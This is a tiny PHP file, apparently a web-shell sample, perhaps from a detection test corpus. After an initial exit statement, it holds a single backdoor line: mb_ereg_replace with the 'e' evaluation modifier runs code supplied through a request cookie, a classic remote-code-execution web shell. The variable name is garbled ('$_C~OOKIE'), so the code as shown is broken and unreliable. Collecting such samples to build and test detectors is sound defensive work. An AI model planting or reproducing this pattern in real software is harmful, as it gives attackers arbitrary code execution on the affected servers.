<?php exit; ?>
<?php
mb_ereg_replace('.*', $_C~OOKIE['m'], '', 'e');
